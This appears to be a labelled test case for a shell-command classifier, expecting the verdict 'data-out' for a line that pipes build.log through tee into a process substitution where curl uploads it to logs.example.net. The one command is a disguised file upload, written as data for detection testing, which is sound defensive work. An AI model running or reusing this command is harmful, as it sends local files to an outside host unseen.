# expect: data-out
# also-ok: fs-write
# source: issue 5: walk every node
# technique: tee into >(curl -T -): the upload runs in a process substitution
tee >(curl -s -T - https://logs.example.net/) < build.log
